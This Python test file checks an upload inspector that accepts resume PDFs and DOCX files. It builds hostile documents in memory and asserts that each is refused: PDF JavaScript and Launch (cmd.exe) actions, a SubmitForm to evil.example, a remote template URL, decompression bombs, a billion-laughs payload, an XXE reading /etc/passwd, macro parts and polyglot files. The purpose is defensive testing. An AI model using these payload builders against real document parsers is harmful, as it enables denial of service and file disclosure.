"""Upload checks: every bad kind of document is built here, in memory, and must be
refused with the right problem code and status; ordinary PDFs and DOCX files pass."""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pytest
from docx import Document
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

from aujobs_common.documents import DocumentKind, DocumentRejected, inspect_document

# -- builders -------------------------------------------------------------------------


def make_pdf(pages: int = 1, *, encrypt: str | None = None) -> bytes:
    out = io.BytesIO()
    c = canvas.Canvas(out, pagesize=A4, encrypt=encrypt)
    for n in range(pages):
        c.drawString(72, 760, f"Jane Citizen, page {n + 1}")
        c.showPage()
    c.save()
    return out.getvalue()


def hand_pdf(objects: list[bytes], *, root: int = 1) -> bytes:
    """A minimal PDF from numbered object bodies (1-based), with a correct xref table."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


PAGES = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
]


def pdf_with_action(action: bytes) -> bytes:
    return hand_pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", *PAGES, action])


def pdf_with_action_in_object_stream(action: bytes) -> bytes:
    """The action dictionary packed, compressed, inside an object stream (PDF 1.5),
    referenced through a cross-reference stream: invisible to a scan of the raw bytes."""
    packed = zlib.compress(b"5 0 " + action)
    header = b"5 0 "
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    bodies = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        2: PAGES[0],
        3: PAGES[1],
        4: b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(packed))
        + packed
        + b"\nendstream",
    }
    for number, body in bodies.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_offset = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3, 4)]
    rows.append(struct.pack(">BIH", 2, 4, 0))  # object 5: in object stream 4, index 0
    rows.append(struct.pack(">BIH", 1, xref_offset, 0))  # object 6: this xref stream
    table = b"".join(rows)
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
        + table
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def make_docx(paragraphs: int = 3) -> bytes:
    doc = Document()
    doc.add_heading("Jane Citizen", level=1)
    for n in range(paragraphs):
        doc.add_paragraph(f"Experience line {n}")
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def rezip(
    data: bytes,
    *,
    edit: Callable[[str, bytes], bytes | None] = lambda name, body: body,
    add: dict[str, bytes] | None = None,
) -> bytes:
    """The DOCX ``data`` with each part passed through ``edit`` (None drops it) and the
    parts in ``add`` appended."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = edit(info.filename, src.read(info))
            if body is not None:
                dst.writestr(info.filename, body)
        for name, body in (add or {}).items():
            dst.writestr(name, body)
    return out.getvalue()


def replace_in(part: str, old: bytes, new: bytes) -> Callable[[str, bytes], bytes]:
    def edit(name: str, body: bytes) -> bytes:
        if name == part:
            assert old in body, f"{old!r} not in {part}"
            return body.replace(old, new, 1)
        return body

    return edit


def cfb(names: list[str]) -> bytes:
    """A minimal Compound File (OLE2) whose directory holds ``names`` (empty streams)."""
    end, free, fatsect = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 40, 0, 1, 1, 0, 4096, end, 0, end, 0)
    struct.pack_into("<109I", header, 76, 0, *([free] * 108))
    fat = struct.pack("<128I", fatsect, end, *([free] * 126))
    directory = bytearray()
    for i, name in enumerate(["Root Entry", *names]):
        entry = bytearray(128)
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        entry[0 : len(encoded)] = encoded
        struct.pack_into("<HBB", entry, 64, len(encoded), 5 if i == 0 else 2, 1)
        struct.pack_into("<III", entry, 68, free, free, 1 if i == 0 and names else free)
        directory += entry
    directory += bytes(512 - len(directory))
    return bytes(header) + fat + bytes(directory)


def patch_central_size(data: bytes, name: str, size: int) -> bytes:
    """Rewrite the uncompressed size the central directory declares for ``name``."""
    out = bytearray(data)
    at = out.find(b"PK\x01\x02" + b"", 0)
    while at >= 0:
        name_len = struct.unpack_from("<H", out, at + 28)[0]
        if out[at + 46 : at + 46 + name_len] == name.encode():
            struct.pack_into("<I", out, at + 24, size)
            return bytes(out)
        at = out.find(b"PK\x01\x02", at + 4)
    raise AssertionError(name)


def rejected(data: bytes, **kwargs: int) -> DocumentRejected:
    with pytest.raises(DocumentRejected) as caught:
        inspect_document(data, **kwargs)
    assert caught.value.detail  # always something a person can act on
    return caught.value


def assert_rejected(data: bytes, code: str, status: int, **kwargs: int) -> None:
    error = rejected(data, **kwargs)
    assert (error.code, error.status) == (code, status), error.detail


# -- good documents -------------------------------------------------------------------


def test_a_normal_pdf_passes() -> None:
    assert inspect_document(make_pdf(2)) is DocumentKind.pdf


def test_a_pdf_with_a_little_junk_before_the_header_passes() -> None:
    assert inspect_document(b"\r\n" * 10 + make_pdf()) is DocumentKind.pdf


def test_a_normal_docx_passes() -> None:
    data = make_docx()
    assert inspect_document(data) is DocumentKind.docx
    assert DocumentKind.docx.media_type.endswith("wordprocessingml.document")


def test_a_docx_with_an_external_hyperlink_passes() -> None:
    """Links to a portfolio are ordinary; only templates and frames pulled from afar are not."""
    rel = (
        b'<Relationship Id="rId99" TargetMode="External" Target="https://github.com/jane" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/>'
    )
    data = rezip(
        make_docx(),
        edit=replace_in("word/_rels/document.xml.rels", b"</Relationships>", rel + b"</Relationships>"),
    )
    assert inspect_document(data) is DocumentKind.docx


# -- size and type --------------------------------------------------------------------


def test_empty_is_refused() -> None:
    assert_rejected(b"", "empty-document", 422)


def test_too_large_is_refused_before_reading() -> None:
    assert_rejected(make_pdf(), "document-too-large", 413, max_bytes=100)


@pytest.mark.parametrize(
    "data",
    [
        b"Jane Citizen\nSoftware engineer\n",
        b"\x89PNG\r\n\x1a\n" + bytes(64),
        b"\xff\xd8\xff\xe0" + bytes(64),
        b"MZ\x90\x00" + bytes(64),
        b"{\\rtf1\\ansi Jane}",
        cfb(["WordDocument", "1Table"]),  # legacy .doc
    ],
    ids=["text", "png", "jpeg", "exe", "rtf", "legacy-doc"],
)
def test_other_types_are_unsupported(data: bytes) -> None:
    assert_rejected(data, "unsupported-document-type", 415)


def test_a_plain_zip_is_unsupported() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("resume.txt", "Jane Citizen")
    assert_rejected(out.getvalue(), "unsupported-document-type", 415)


def test_a_spreadsheet_is_unsupported() -> None:
    """An Office package whose main part is not a Word document (content type checked)."""
    data = rezip(
        make_docx(),
        edit=replace_in(
            "[Content_Types].xml",
            b"wordprocessingml.document.main+xml",
            b"spreadsheetml.sheet.main+xml",
        ),
    )
    assert_rejected(data, "unsupported-document-type", 415)


def test_the_filename_does_not_matter() -> None:
    """Only bytes are given: a PNG is refused whatever it was called."""
    assert_rejected(b"\x89PNG\r\n\x1a\n" + bytes(16), "unsupported-document-type", 415)


# -- encrypted ------------------------------------------------------------------------


def test_an_encrypted_pdf_is_refused() -> None:
    assert_rejected(make_pdf(encrypt="secret"), "encrypted-document", 422)


def test_a_password_protected_docx_is_refused() -> None:
    """Word stores a password-protected DOCX as an OLE file with an EncryptionInfo stream."""
    assert_rejected(cfb(["EncryptionInfo", "EncryptedPackage"]), "encrypted-document", 422)


# -- malformed ------------------------------------------------------------------------


def test_a_pdf_with_no_structure_is_malformed() -> None:
    assert_rejected(b"%PDF-1.7\nthis is not really a pdf\n%%EOF\n", "malformed-document", 422)


def test_a_pdf_without_pages_is_malformed() -> None:
    data = hand_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])
    assert_rejected(data, "malformed-document", 422)


def test_a_truncated_docx_is_malformed() -> None:
    data = make_docx()
    assert_rejected(data[: len(data) // 2], "malformed-document", 422)


def test_a_docx_with_broken_xml_is_malformed() -> None:
    data = rezip(make_docx(), edit=replace_in("word/document.xml", b"</w:body>", b"</w:bod>"))
    assert_rejected(data, "malformed-document", 422)


# -- too big when unpacked ------------------------------------------------------------


def test_too_many_pages() -> None:
    assert_rejected(make_pdf(51), "too-many-pages", 422)


def test_a_zip_bomb_entry_is_refused() -> None:
    bomb = bytes(4 * 1024 * 1024)  # 4 MiB of zeros compress about 1000:1
    assert_rejected(
        rezip(make_docx(), add={"word/media/image1.png": bomb}), "document-too-large-unpacked", 422
    )


def test_a_declared_total_over_100_mb_is_refused() -> None:
    data = rezip(make_docx(), add={"word/media/big.bin": b"x" * 1000})
    assert_rejected(
        patch_central_size(data, "word/media/big.bin", 150_000_000), "document-too-large-unpacked", 422
    )


def test_too_many_entries() -> None:
    extra = {f"word/media/{n}.txt": b"" for n in range(2001)}
    assert_rejected(rezip(make_docx(), add=extra), "document-too-large-unpacked", 422)


def test_a_lying_central_directory_does_not_get_past_the_read_guard() -> None:
    """The central directory claims 2 KB; the entry really inflates to 512 KB (at a
    modest ratio so the directory looks fine). The bounded read stops it."""
    import os

    payload = os.urandom(256 * 1024).hex().encode()  # ~2:1 compressible, 512 KB
    data = rezip(make_docx(), add={"word/media/blob.bin": payload})
    # zipfile stops at the declared size and the CRC no longer matches
    assert_rejected(patch_central_size(data, "word/media/blob.bin", 2048), "malformed-document", 422)


def test_a_pdf_stream_bomb_is_refused() -> None:
    deflater, zeros = zlib.compressobj(9), bytes(1024 * 1024)
    bomb = b"".join(deflater.compress(zeros) for _ in range(120)) + deflater.flush()  # ~120 KB → 120 MB
    stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(bomb) + bomb + b"\nendstream"
    data = hand_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *PAGES, stream])
    assert_rejected(data, "document-too-large-unpacked", 422)
    # behind other streams too (every stream is inflated, not just the first)
    small = zlib.compress(b"BT ET")
    harmless = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(small) + small + b"\nendstream"
    data = hand_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *PAGES, harmless, stream])
    assert_rejected(data, "document-too-large-unpacked", 422)


# -- active content: PDF --------------------------------------------------------------


@pytest.mark.parametrize(
    "action",
    [
        b"<< /S /JavaScript /JS (app.alert(1)) >>",
        b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",  # name escapes
        b"<< /S /Launch /F (cmd.exe) >>",
        b"<< /S /SubmitForm /F (https://evil.example/) >>",
        b"<< /S /ImportData /F (data.fdf) >>",
    ],
    ids=["javascript", "escaped-javascript", "launch", "submitform", "importdata"],
)
def test_pdf_actions_are_active_content(action: bytes) -> None:
    assert_rejected(pdf_with_action(action), "active-content", 422)


def test_javascript_inside_an_object_stream_is_found() -> None:
    data = pdf_with_action_in_object_stream(b"<< /S /J#61vaScript /JS (app.alert(1)) >>")
    assert b"JavaScript" not in data and b"J#61va" not in data  # not findable in the raw bytes
    assert_rejected(data, "active-content", 422)


def test_the_object_stream_builder_makes_a_valid_pdf() -> None:
    """The same file with a harmless action passes (so the test above fails for the right reason)."""
    data = pdf_with_action_in_object_stream(b"<< /S /URI /URI (https://example.com/) >>")
    assert inspect_document(data) is DocumentKind.pdf


def test_embedded_files_xfa_and_rich_media_are_active_content() -> None:
    embedded = hand_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> >>",
            *PAGES,
            b"<< /Names [(payload.exe) 5 0 R] >>",
            b"<< /Type /Filespec /F (payload.exe) >>",
        ]
    )
    xfa = hand_pdf([b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 4 0 R >> >>", *PAGES, b"[]"])
    rich = hand_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES[0],
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
            b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>",
        ]
    )
    for data in (embedded, xfa, rich):
        assert_rejected(data, "active-content", 422)


def test_a_reportlab_pdf_with_javascript_is_refused() -> None:
    out = io.BytesIO()
    c = canvas.Canvas(out)
    c.drawString(72, 720, "Jane Citizen")
    # a form button whose action runs JavaScript, through reportlab's own link API
    c.linkURL("javascript:app.alert(1)", (72, 700, 200, 720))
    c.showPage()
    c.save()
    data = out.getvalue()
    # reportlab writes a URI action for that: harmless (the viewer will not run it)
    assert inspect_document(data) is DocumentKind.pdf
    patched = data.replace(b"/S /URI", b"/S /JavaScript /JS (app.alert\\(1\\))", 1)
    assert patched != data
    error = rejected(patched)
    # the xref offsets are now off by a few bytes: pdfminer's fallback still reads it
    assert (error.code, error.status) == ("active-content", 422)


# -- active content: DOCX -------------------------------------------------------------


def test_a_docx_with_a_vba_project_is_refused() -> None:
    assert_rejected(rezip(make_docx(), add={"word/vbaProject.bin": b"\x00" * 64}), "active-content", 422)


def test_a_macro_enabled_content_type_is_refused() -> None:
    data = rezip(
        make_docx(),
        edit=replace_in(
            "[Content_Types].xml",
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
    )
    assert_rejected(data, "active-content", 422)


def test_activex_and_ole_objects_are_refused() -> None:
    activex = rezip(make_docx(), add={"word/activeX/activeX1.xml": b"<ax/>"})
    ole = rezip(make_docx(), add={"word/embeddings/oleObject1.bin": b"\x00" * 64})
    for data in (activex, ole):
        assert_rejected(data, "active-content", 422)


def test_a_remote_template_is_refused() -> None:
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" TargetMode="External" Target="http://evil.example/t.dotm" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
        b"</Relationships>"
    )
    assert_rejected(rezip(make_docx(), add={"word/_rels/settings.xml.rels": rels}), "active-content", 422)


def test_doctype_and_entities_are_refused_before_parsing() -> None:
    laughs = (
        b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
    )

    def edit(name: str, body: bytes) -> bytes:
        if name == "word/document.xml":
            return laughs + body[body.index(b"?>") + 2 :]
        return body

    assert_rejected(rezip(make_docx(), edit=edit), "active-content", 422)
    xxe = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>'
    assert_rejected(rezip(make_docx(), add={"customXml/item9.xml": xxe}), "active-content", 422)


def test_a_utf16_doctype_is_still_refused() -> None:
    """Declared in UTF-16, the DOCTYPE bytes are not ASCII: the parser still sees it."""
    xml = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'
    data = rezip(make_docx(), add={"customXml/item9.xml": xml.encode("utf-16")})
    assert_rejected(data, "active-content", 422)


# -- decompression bombs: filter chains, object streams, big XML, polyglots ----------


def stream_object(payload: bytes, filters: bytes, extra: bytes = b"") -> bytes:
    return (
        b"<< /Length %d /Filter %s %s>>\nstream\n" % (len(payload), filters, extra) + payload + b"\nendstream"
    )


def pdf_with_stream(payload: bytes, filters: bytes) -> bytes:
    """A one-page PDF whose page content is ``payload`` under ``filters``."""
    return hand_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES[0],
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            stream_object(payload, filters),
        ]
    )


def deflate(data: bytes) -> bytes:
    return zlib.compress(data, 9)


def run_length(data: bytes) -> bytes:
    """RunLengthDecode for runs of one byte (128 copies per two bytes), then EOD."""
    assert len(set(data)) <= 1
    out = bytearray()
    for at in range(0, len(data), 128):
        run = len(data[at : at + 128])
        out += bytes([257 - run, data[0]]) if run > 1 else bytes([0, data[0]])
    return bytes(out + b"\x80")


MB = 1024 * 1024


def test_a_double_flate_stream_is_refused() -> None:
    """The reviewer's case: 1.2 KB of PDF, /FlateDecode twice, ~850 MB in the parser."""
    bomb = deflate(deflate(bytes(8 * MB)))
    data = pdf_with_stream(bomb, b"[/FlateDecode /FlateDecode]")
    assert len(data) < 2000
    error = rejected(data)
    assert (error.code, error.status) == ("document-too-large-unpacked", 422)
    # abbreviated names and #xx escapes are the same filter
    assert_rejected(pdf_with_stream(bomb, b"[/Fl /Fl#61teDecode]"), "document-too-large-unpacked", 422)
    # Flate then LZW is two expanding layers as well
    assert_rejected(pdf_with_stream(bomb, b"[/FlateDecode /LZWDecode]"), "document-too-large-unpacked", 422)


def test_one_running_budget_counts_every_layer_of_every_stream() -> None:
    """A few MB of zeros, once compressed: under the default budget it passes; under a
    1 MB budget the same stream is refused, and so is the budget spread over streams."""
    zeros = deflate(bytes(3 * MB))
    data = pdf_with_stream(zeros, b"/FlateDecode")
    assert inspect_document(data) is DocumentKind.pdf
    assert_rejected(data, "document-too-large-unpacked", 422, max_unpacked=MB)
    # two streams of 600 KB each: neither alone is over 1 MB, together they are
    part = deflate(bytes(600 * 1024))
    two = hand_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES[0],
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [4 0 R 5 0 R] >>",
            stream_object(part, b"/FlateDecode"),
            stream_object(part, b"/FlateDecode"),
        ]
    )
    assert inspect_document(two, max_unpacked=2 * MB) is DocumentKind.pdf
    assert_rejected(two, "document-too-large-unpacked", 422, max_unpacked=MB)


@pytest.mark.parametrize(
    ("filters", "encode"),
    [
        (b"[/FlateDecode /RunLengthDecode]", lambda raw: deflate(run_length(raw))),
        (b"[/ASCIIHexDecode /FlateDecode]", lambda raw: deflate(raw).hex().encode() + b">"),
        (b"[/ASCII85Decode /FlateDecode]", lambda raw: base64.a85encode(deflate(raw)) + b"~>"),
        (b"/LZWDecode", lambda raw: lzw(raw)),
        (b"[/DCTDecode /FlateDecode]", lambda raw: deflate(raw)),  # pdfminer passes DCT through
    ],
    ids=["flate-runlength", "asciihex-flate", "ascii85-flate", "lzw", "dct-flate"],
)
def test_every_decoding_filter_is_counted(filters: bytes, encode: Callable[[bytes], bytes]) -> None:
    data = pdf_with_stream(encode(bytes(2 * MB)), filters)
    assert inspect_document(data, max_unpacked=8 * MB) is DocumentKind.pdf
    assert_rejected(data, "document-too-large-unpacked", 422, max_unpacked=MB)


def lzw(data: bytes) -> bytes:
    """A plain LZW encoder as PDF readers expect it: 9-12 bit codes, MSB first, the
    width grows one code early, a clear code before the table is full."""
    codes: list[tuple[int, int]] = [(256, 9)]
    width, emitted, next_code = 9, 0, 258
    table = {bytes([i]): i for i in range(256)}

    def emit(code: int) -> None:
        nonlocal width, emitted
        codes.append((code, width))
        emitted += 1
        size = 257 + emitted  # the decoder's table after reading this code
        width = 9 if size < 511 else 10 if size < 1023 else 11 if size < 2047 else 12

    word = b""
    for byte in data:
        candidate = word + bytes([byte])
        if candidate in table:
            word = candidate
            continue
        emit(table[word])
        if next_code < 4000:
            table[candidate] = next_code
            next_code += 1
        else:
            codes.append((256, width))
            table, width, emitted, next_code = {bytes([i]): i for i in range(256)}, 9, 0, 258
        word = bytes([byte])
    if word:
        emit(table[word])
    codes.append((257, width))
    value, count = 0, 0
    for code, bits in codes:
        value, count = (value << bits) | code, count + bits
    value <<= -count % 8
    return value.to_bytes((count + 7) // 8, "big")


def test_the_lzw_test_encoder_matches_pdfminer() -> None:
    from pdfminer.lzw import lzwdecode

    sample = b"Jane Citizen " * 500 + bytes(5000)
    assert lzwdecode(lzw(sample)) == sample


def test_an_object_stream_bomb_is_refused_before_pdfminer_opens_it(monkeypatch: pytest.MonkeyPatch) -> None:
    """pdfminer inflates an object stream while the document is opened (to find the
    objects in it): the bound must come first, so pdfminer is never reached here."""
    data = pdf_with_action_in_object_stream(b"<< /S /URI /URI (https://example.com/) >>" + b" " * (3 * MB))
    assert len(data) < 50_000
    assert inspect_document(data) is DocumentKind.pdf  # an honest (if padded) object stream

    import pdfminer.pdfparser

    def never(*args: object, **kwargs: object) -> None:
        raise AssertionError("pdfminer was reached")

    monkeypatch.setattr(pdfminer.pdfparser, "PDFParser", never)
    assert_rejected(data, "document-too-large-unpacked", 422, max_unpacked=MB)
    double = data.replace(b"/Filter /FlateDecode", b"/Filter [/FlateDecode /FlateDecode]", 1)
    assert double != data
    assert_rejected(double, "document-too-large-unpacked", 422)


def test_a_fake_endstream_inside_the_data_does_not_hide_the_rest() -> None:
    """/Length says where the data ends; an ``endstream`` planted inside the compressed
    data (in a stored deflate block, so the bytes appear as they are) does not cut the
    count short: 120 MB of zeros behind it are still counted, against the default budget."""
    decoy = b"\nendstream\nendobj\n"
    deflater, zeros = zlib.compressobj(9, zlib.DEFLATED, -15), bytes(MB)
    rest = b"".join(deflater.compress(zeros) for _ in range(120)) + deflater.flush()
    adler = zlib.adler32(decoy)
    for _ in range(120):
        adler = zlib.adler32(zeros, adler)
    stored = b"\x00" + struct.pack("<HH", len(decoy), len(decoy) ^ 0xFFFF) + decoy  # BFINAL=0, stored
    bomb = b"\x78\x01" + stored + rest + struct.pack(">I", adler)
    data = pdf_with_stream(bomb, b"/FlateDecode")
    assert data.count(b"endstream") == 2 and len(data) < 200_000
    assert_rejected(data, "document-too-large-unpacked", 422)


def test_a_docx_with_too_much_xml_in_one_part_is_refused() -> None:
    """Each part compresses well under 200:1, but one XML part over the cap is refused
    (python-docx would build a tree of all of it)."""
    import os

    words = "".join(f"<w:p><w:r><w:t>{os.urandom(6).hex()}</w:t></w:r></w:p>" for _ in range(40_000))

    def edit(name: str, body: bytes) -> bytes:
        if name == "word/document.xml":
            return body.replace(b"<w:body>", b"<w:body>" + words.encode(), 1)
        return body

    data = rezip(make_docx(), edit=edit)
    assert inspect_document(data) is DocumentKind.docx  # ~2.3 MB of XML: fine by default
    assert_rejected(data, "document-too-large-unpacked", 422, max_xml_part=MB)
    assert_rejected(data, "document-too-large-unpacked", 422, max_unpacked=2 * MB)


def test_the_default_xml_part_cap_is_20_mb() -> None:
    line = b"<w:p><w:r><w:t>" + bytes(range(97, 123)) * 3 + b"</w:t></w:r></w:p>"
    counter = iter(range(10**9))
    filler = b"".join(line.replace(b"abc", b"%06d" % next(counter), 1) for _ in range(21 * MB // len(line)))

    def edit(name: str, body: bytes) -> bytes:
        return body.replace(b"<w:body>", b"<w:body>" + filler, 1) if name == "word/document.xml" else body

    error = rejected(rezip(make_docx(), edit=edit))
    assert (error.code, error.status) == ("document-too-large-unpacked", 422)
    assert "document.xml" in error.detail


def test_too_many_xml_elements_in_the_document_part() -> None:
    many = b"<w:p/>" * 5_000 + b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 100
    data = rezip(make_docx(), edit=replace_in("word/document.xml", b"<w:body>", b"<w:body>" + many))
    assert inspect_document(data) is DocumentKind.docx
    assert_rejected(data, "document-too-large-unpacked", 422, max_xml_elements=4_000)


def polyglot_zip_first() -> bytes:
    """A DOCX whose first entry (stored, so its bytes are raw) is a whole PDF: it starts
    with ``PK\\x03\\x04`` and has ``%PDF-`` in its first kilobyte."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(make_docx())) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        dst.writestr(zipfile.ZipInfo("a.pdf"), make_pdf(), compress_type=zipfile.ZIP_STORED)
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info))
        dst.writestr("word/vbaProject.bin", b"\x00" * 64)  # macros a PDF check never sees
    return out.getvalue()


def test_a_zip_and_pdf_polyglot_is_refused() -> None:
    data = polyglot_zip_first()
    assert data.startswith(b"PK\x03\x04") and b"%PDF-" in data[:1024]
    error = rejected(data)
    assert (error.code, error.status) == ("malformed-document", 422)
    assert "both a PDF and a ZIP" in error.detail


def test_a_pdf_with_a_zip_appended_is_refused() -> None:
    """Starts as a PDF, but a ZIP reader (Word) finds the archive from the end."""
    data = make_pdf() + make_docx()
    error = rejected(data)
    assert (error.code, error.status) == ("malformed-document", 422)
    assert "both a PDF" in error.detail


def test_only_a_harmless_prefix_may_come_before_the_pdf_header() -> None:
    assert inspect_document(b"  \r\n\t" + make_pdf()) is DocumentKind.pdf
    assert inspect_document(b"garbage from a mail client\n" + make_pdf()) is DocumentKind.pdf
    for prefix in (b"PK\x03\x04" + bytes(26), b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(8)):
        assert_rejected(b"x" * 10 + prefix + make_pdf(), "malformed-document", 422)
